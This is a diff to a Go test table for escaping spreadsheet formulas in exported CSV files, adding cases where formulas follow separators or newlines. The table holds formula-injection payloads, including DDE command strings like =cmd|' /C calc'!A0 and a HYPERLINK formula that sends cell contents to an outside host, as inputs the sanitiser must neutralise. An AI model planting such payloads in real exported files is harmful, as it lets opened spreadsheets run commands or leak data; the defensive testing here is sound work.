@@ -14,13 +14,18 @@ func TestNoFormulaInAFileOfRequests(t *testing.T) {
 	for text, want := range map[string]string{
 		"=1+1":                              "'=1+1",
 		`=HYPERLINK("https://x/?"&A1;"ok")`: `'=HYPERLINK("https://x/?"&A1;"ok")`,
+		"a;=1+1":                            "a;'=1+1",
+		"a\t=1+1":                           "a\t'=1+1",
+		"a\n=1+1":                           "a\n'=1+1",
+		`a" =1+1`:                           `a"' =1+1`,
+		"a,-A1; +1":                         "a,'-A1; +1",
 		"=cmd|' /C calc'!A0":                "'=cmd|' /C calc'!A0",
 		"+cmd|' /C calc'!A0":                "'+cmd|' /C calc'!A0",
 		"-2+3+cmd|' /C calc'!A0":            "'-2+3+cmd|' /C calc'!A0",
 		"@SUM(1+1)*cmd|' /C calc'!A0":       "'@SUM(1+1)*cmd|' /C calc'!A0",
-		"\t=1+1":                            "'\t=1+1",
-		"\r=1+1":                            "'=1+1", // encoding/csv leaves it out
-		"\n=1+1":                            "'\n=1+1",
+		"\t=1+1":                            "'\t'=1+1",
+		"\r=1+1":                            "''=1+1", // encoding/csv leaves it out
+		"\n=1+1":                            "'\n'=1+1",
 		"  =1+1":                            "'  =1+1",
 		"\u00a0=1+1":                        "'\u00a0=1+1",
 		"＝1+1":                              "'＝1+1",
